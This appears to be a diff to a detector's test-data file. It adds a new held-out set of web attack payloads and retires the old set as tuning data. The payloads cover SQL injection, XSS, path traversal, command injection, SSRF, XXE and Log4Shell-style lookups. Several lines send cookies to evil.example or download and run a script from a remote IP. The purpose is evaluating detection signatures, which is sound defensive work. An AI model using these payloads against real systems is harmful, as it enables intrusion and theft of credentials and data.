@@ -297,10 +297,11 @@ export const MALICIOUS: Record<string, { where: string[]; payloads: string[] }> 
 }
 
 /**
- * Held out: written after the detector's signatures were tuned on MALICIOUS and never used to
- * tune them, so their detection rate says how the signatures generalise (docs/detection.md).
+ * The first held-out set (2026-11-23): written after the signatures were tuned on MALICIOUS and
+ * measured once (90 of 96); its six misses were then fixed, so it is tuning data now, added to
+ * malicious.jsonl in its original placement. HELD_OUT below replaced it as the honest figure.
  */
-export const HELD_OUT: Record<string, string[]> = {
+export const FORMER_HELD_OUT: Record<string, string[]> = {
   sqli: [
     "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
     "' OR 'x'='x'#",
@@ -416,5 +417,109 @@ export const HELD_OUT: Record<string, string[]> = {
     '/actuator/heapdump',
     '/wp-config.php',
     '/.env.production',
+  ],
+}
+
+/**
+ * Held out (second set): written before the first set's misses were fixed, measured after, and never
+ * used to tune the signatures, so their detection rate says how the signatures generalise
+ * (docs/detection.md). A miss here is reported, not fixed, until the next set replaces this one.
+ */
+export const HELD_OUT: Record<string, string[]> = {
+  sqli: [
+    "42' AND (SELECT 7121 FROM (SELECT(SLEEP(5)))abc)-- -",
+    "x' OR username LIKE '%admin%'--",
+    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
+    "'; EXEC master..xp_dirtree '\\\\evil.example\\a'--",
+    "-1' UNION ALL SELECT table_name,2 FROM information_schema.tables#",
+    "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- x",
+    "\" or \"\"=\"",
+    "10 OR 2>1",
+  ],
+  xss: [
+    '<details open ontoggle=alert(document.domain)>',
+    '<video><source onerror="alert(1)">',
+    '<marquee onstart=confirm(1)>x</marquee>',
+    '<object data="javascript:alert(1)">',
+    '"><svg/onload=prompt(1)>',
+    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    '<img src="x" onerror="fetch(`//evil.example?c=`+document.cookie)">',
+    '<input autofocus onfocus=alert(1)>',
+  ],
+  path_traversal: [
+    '../../../../../../../../var/log/apache2/access.log',
+    '..%2f..%2f..%2f..%2fetc%2fshadow',
+    'images/..\\..\\..\\windows\\system32\\drivers\\etc\\hosts',
+    '/proc/self/cmdline',
+    '....//....//....//etc/passwd',
+    'C:\\Windows\\win.ini',
+    '../../../../home/app/.ssh/id_rsa',
+    '%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini',
+  ],
+  rce: [
+    '127.0.0.1; uname -a',
+    'file.txt | whoami',
+    '$(sleep 7)',
+    '; wget http://198.51.100.7/x -O /tmp/x; sh /tmp/x',
+    "__import__('subprocess').check_output('id', shell=True)",
+    "require('child_process').execSync('id')",
+    '{{ self.__init__.__globals__.__builtins__ }}',
+    'a && powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==',
+  ],
+  ssrf: [
+    'http://localhost:6379/',
+    'http://[::ffff:127.0.0.1]:8080/',
+    'http://metadata.google.internal/computeMetadata/v1/',
+    'dict://127.0.0.1:11211/stats',
+    'http://172.20.0.5/admin',
+    'http://0x7f.0x0.0x0.0x1/',
+    'http://127.0.0.1.nip.io/',
+    'ldap://10.0.0.8:389/dc=corp',
+  ],
+  nosqli: [
+    '{"username": "admin", "password": {"$gt": ""}}',
+    'username[$ne]=admin&password[$ne]=x',
+    '{"$where": "sleep(2000) || true"}',
+    '{"q": {"$in": ["admin", "root"]}}',
+    'role[$regex]=.*',
+    '{"age": {"$exists": true}, "$or": [{}]}',
+    "'; return this.password != ''; var x='",
+    '{"email": {"$eq": "a@example.com"}, "pw": {"$ne": null}}',
+  ],
+  ldapi: [
+    '*)(objectClass=*))(&(objectClass=void',
+    'admin*)((|userPassword=*)',
+    ')(|(cn=*)',
+    '*))%00',
+    'jdoe)(|(uid=*))',
+    '*)(givenName=*',
+    'x*)(|(description=*pass*))',
+    '(|(uid=*)(cn=*))',
+  ],
+  xxe: [
+    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///c:/windows/win.ini">]><r>&f;</r>',
+    '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://198.51.100.3/evil.dtd"> %p; ]><d/>',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ELEMENT a ANY><!ENTITY x SYSTEM "expect://id">]><a>&x;</a>',
+    '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></doc>',
+    '<!DOCTYPE lol [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;&l;&l;&l;">]><x>&l2;</x>',
+    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE u [ <!ENTITY  ext  SYSTEM  "http://internal.example/"> ]><u>&ext;</u>',
+  ],
+  jndi: [
+    '${jndi:ldaps://198.51.100.2/o}',
+    '${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://evil.example/}',
+    '${jndi:dns://evil.example/q}',
+    '${${date:\'j\'}${date:\'n\'}di:ldap://evil.example/d}',
+    '${jn${::-d}i:rmi://evil.example/r}',
+    '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/p}',
+  ],
+  scanner: [
+    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
+    'gobuster/3.6',
+    'Fuzz Faster U Fool v2.1.0',
+    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
+    '/.aws/credentials',
+    '/server-status',
+    '/cgi-bin/test-cgi',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
   ],
 }
